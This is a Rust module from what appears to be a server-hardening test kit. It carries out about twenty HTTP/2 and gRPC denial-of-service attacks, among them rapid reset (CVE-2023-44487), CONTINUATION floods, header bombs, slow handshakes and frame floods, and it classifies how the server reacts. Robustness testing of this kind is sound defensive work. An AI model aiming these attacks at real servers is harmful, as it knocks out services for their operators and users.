//! Peers that mean harm: what one can send to a server of HTTP/2 so that it works, holds or waits for nothing.
//!
//! ```no_run
//! # async fn example() -> anyhow::Result<()> {
//! use testkit::hostile::{Attack, Verdict};
//!
//! let verdict = Attack::RapidResets.try_on("127.0.0.1:50051".parse()?).await?;
//! assert!(matches!(verdict, Verdict::Ended { .. }));
//! # Ok(()) }
//! ```

mod almost_whole;
mod sent;
mod too_long;
mod unread;
mod wire;

use std::{io, net::SocketAddr, time::Duration};

use anyhow::{Context as _, Result};
use tokio::{io::AsyncWriteExt as _, net::tcp::OwnedWriteHalf, select, time::timeout};

pub use almost_whole::AlmostWhole;
use sent::{MARK, bomb, calls, flood, for_ever, headers, open, unfinished};
pub use unread::Unread;
use wire::{
    ACK, CONTINUATION, DATA, GOAWAY, HEADERS, Hearing, PING, PREFACE, PRIORITY, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, begin, call, connect, frame, literal,
};

/// More than any server needs to make up its mind.
const BOUND: Duration = Duration::from_mins(1);
/// RFC 9113, section 7.
const ENHANCE_YOUR_CALM: u32 = 11;
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// The head of a `ClientHello` of 512 bytes (RFC 8446, section 5.1).
const CLIENT_HELLO: [u8; 5] = [0x16, 3, 1, 2, 0];

/// What a peer does.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Attack {
    /// Connects, and begins to speak without an end to it.
    SlowHandshake,
    /// Begins to say hello by TLS without an end to it, to a server that speaks it.
    SlowTlsHandshake,
    /// Connects again and again, and keeps what it gets.
    Connections,
    /// Has begun to speak, and answers nothing from then on.
    Silence,
    /// Gives up calls as it makes them (CVE-2023-44487).
    RapidResets,
    /// Makes the server give up calls, by mistakes (CVE-2025-8671).
    MadeResets,
    /// Opens more calls than it may.
    Streams,
    /// Sends one header of 200 KiB.
    LongHeaders,
    /// Sends one header and names it thousands of times more, by a byte each.
    HeaderBomb,
    /// Sends headers without an end to them (CVE-2024-27316 and its like).
    Continuations,
    /// Sends DATA frames with no data in them.
    EmptyData,
    /// Promises messages of 4 MiB on a hundred calls, and sends as much of them as is taken.
    UnfinishedMessages,
    /// Sends messages of 4 MiB but for their last byte, 512 MiB in all, on four connections ([`AlmostWhole`]).
    AlmostWholeMessages,
    /// Sends messages that are a byte longer than 4 MiB, 132 MiB in all, unless it is told to stop.
    TooLongMessages,
    /// Has messages of a MiB answered by as much, and reads a byte of each answer ([`Unread`]).
    UnreadAnswers,
    /// Asks whether the server is there, tens of thousands of times.
    Pings,
    /// Answers as often what nobody has asked.
    PingAnswers,
    /// Sends as many SETTINGS, each of which is to be acknowledged.
    Settings,
    /// Makes the connection's window larger by a byte as often.
    WindowUpdates,
    /// Gives a stream that there is not as many priorities.
    Priorities,
    /// Gives up one call as often.
    RepeatedResets,
}

/// What the server made of it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Verdict {
    /// It ended the connection, with this code when it said one. A socket that is closed with something unread in it may lose that.
    Ended {
        /// An error code of HTTP/2.
        code: Option<u32>,
    },
    /// It ended one call with this code, an error code of HTTP/2.
    Refused {
        /// An error code of HTTP/2.
        code: u32,
    },
    /// It ended so many calls with `RESOURCE_EXHAUSTED`, gRPC's word for it, and went on with the others.
    Exhausted {
        /// How many it ended.
        calls: usize,
    },
    /// It went on, and answered the last word.
    Endured,
}

impl Verdict {
    /// The connection was ended, because it was too much.
    pub fn is_calmed(self) -> bool {
        matches!(self, Self::Ended { code } if code.is_none_or(|code| code == ENHANCE_YOUR_CALM))
    }
}

impl Attack {
    /// What it is called in a table.
    pub fn name(self) -> &'static str {
        match self {
            Self::SlowHandshake => "slow handshakes",
            Self::SlowTlsHandshake => "slow handshakes of TLS",
            Self::Connections => "connections",
            Self::Silence => "silence",
            Self::RapidResets => "rapid resets",
            Self::MadeResets => "resets that it provokes",
            Self::Streams => "streams",
            Self::LongHeaders => "long headers",
            Self::HeaderBomb => "a header named again",
            Self::Continuations => "CONTINUATION without an end",
            Self::EmptyData => "empty DATA",
            Self::UnfinishedMessages => "unfinished messages",
            Self::AlmostWholeMessages => "messages but for a byte",
            Self::TooLongMessages => "messages above the limit",
            Self::UnreadAnswers => "answers that nobody reads",
            Self::Pings => "PING",
            Self::PingAnswers => "answers to no PING",
            Self::Settings => "SETTINGS",
            Self::WindowUpdates => "WINDOW_UPDATE",
            Self::Priorities => "PRIORITY",
            Self::RepeatedResets => "resets of one call",
        }
    }

    /// Whether it is tried on a server that speaks TLS, to which all others say nothing.
    pub fn is_of_tls(self) -> bool {
        self == Self::SlowTlsHandshake
    }

    /// Does it once, on connections of its own, until the server has said what it makes of it.
    ///
    /// # Errors
    /// When nobody listens there, or nothing has come of it within a minute.
    pub async fn try_on(self, server: SocketAddr) -> Result<Verdict> {
        timeout(BOUND, self.run(server))
            .await
            .with_context(|| format!("the server has said nothing of {}", self.name()))?
            .with_context(|| format!("cannot try {} on {server}", self.name()))
    }

    async fn run(self, server: SocketAddr) -> io::Result<Verdict> {
        match self {
            Self::SlowHandshake => begins(server, &PREFACE[..10]).await,
            Self::SlowTlsHandshake => begins(server, &CLIENT_HELLO).await,
            Self::Connections => connections(server).await,
            Self::AlmostWholeMessages => {
                let calls = AlmostWhole::send(server).await?.exhausted();
                Ok(if calls > 0 {
                    Verdict::Exhausted { calls }
                } else {
                    Verdict::Endured
                })
            }
            Self::TooLongMessages => {
                let calls = too_long::try_on(server).await?;
                Ok(Verdict::Exhausted { calls })
            }
            Self::UnreadAnswers => {
                Unread::send(server).await?;
                Ok(Verdict::Endured)
            }
            Self::Silence => {
                let (_write, hearing) = begin(server).await?;
                Ok(verdict(hearing, false).await)
            }
            attack => {
                let (write, mut hearing) = begin(server).await?;
                if attack == Self::UnfinishedMessages {
                    // Until then all streams together may send what one may (RFC 9113, section 6.9.2).
                    while hearing.next().await?.kind != WINDOW_UPDATE {}
                }
                // The server's word counts as soon as it is said: what is sent after it may find nobody.
                select! {
                    biased;
                    verdict = verdict(hearing, attack == Self::Streams) => Ok(verdict),
                    never = attack.send(write) => match never {},
                }
            }
        }
    }

    /// Sends what makes it up, and then waits.
    async fn send(self, mut write: OwnedWriteHalf) -> std::convert::Infallible {
        // Who is not read any more is told so by what it reads itself.
        let _ = self.sent(&mut write).await;
        std::future::pending().await
    }

    async fn sent(self, write: &mut OwnedWriteHalf) -> io::Result<()> {
        match self {
            Self::LongHeaders => {
                let long = "x".repeat(200 * 1024);
                write.write_all(&headers(&literal("x-long", &long))).await
            }
            Self::HeaderBomb => write.write_all(&headers(&bomb())).await,
            Self::Continuations => {
                let begun = frame(HEADERS, 0, 1, &call());
                write.write_all(&begun).await?;
                for_ever(write, &frame(CONTINUATION, 0, 1, &literal("a", "b"))).await
            }
            Self::EmptyData => {
                write.write_all(&open(1)).await?;
                for_ever(write, &frame(DATA, 0, 1, &[])).await
            }
            Self::RapidResets => calls(write, |stream| frame(RST_STREAM, 0, stream, &CANCEL)).await,
            Self::MadeResets => {
                // A window that grows beyond what a window may be is an error of its stream.
                let beyond = i32::MAX.to_be_bytes();
                calls(write, |stream| frame(WINDOW_UPDATE, 0, stream, &beyond)).await
            }
            Self::Streams => calls(write, |_| Vec::new()).await,
            Self::UnfinishedMessages => unfinished(write).await,
            Self::Pings => flood(write, &frame(PING, 0, 0, &[1; 8])).await,
            Self::PingAnswers => flood(write, &frame(PING, ACK, 0, &[1; 8])).await,
            Self::Settings => flood(write, &frame(SETTINGS, 0, 0, &[])).await,
            Self::WindowUpdates => flood(write, &frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])).await,
            Self::Priorities => flood(write, &frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1])).await,
            Self::RepeatedResets => {
                write.write_all(&open(1)).await?;
                flood(write, &frame(RST_STREAM, 0, 1, &CANCEL)).await
            }
            Self::SlowHandshake
            | Self::SlowTlsHandshake
            | Self::Connections
            | Self::Silence
            | Self::AlmostWholeMessages
            | Self::TooLongMessages
            | Self::UnreadAnswers => Ok(()),
        }
    }
}

/// The first word of the server's that says what it makes of it all.
async fn verdict(mut hearing: Hearing, of_streams: bool) -> Verdict {
    loop {
        let Ok(heard) = hearing.next().await else {
            return Verdict::Ended { code: None };
        };
        match heard.kind {
            GOAWAY => {
                let code = Some(heard.code());
                return Verdict::Ended { code };
            }
            RST_STREAM if of_streams => {
                let code = heard.code();
                return Verdict::Refused { code };
            }
            PING if heard.flags == ACK && heard.payload == MARK => return Verdict::Endured,
            _ => {}
        }
    }
}

/// Says so much, and waits for what comes of it.
async fn begins(server: SocketAddr, head: &[u8]) -> io::Result<Verdict> {
    let (mut write, hearing) = connect(server).await?;
    write.write_all(head).await?;
    Ok(verdict(hearing, false).await)
}

/// Connects until it is refused, and lets go of what it has then. A connection that is good is told of by SETTINGS.
async fn connections(server: SocketAddr) -> io::Result<Verdict> {
    let mut kept = Vec::new();
    loop {
        let Ok((write, mut hearing)) = begin(server).await else {
            return Ok(Verdict::Ended { code: None });
        };
        if hearing.next().await.is_err() {
            return Ok(Verdict::Ended { code: None });
        }
        kept.push((write, hearing));
    }
}
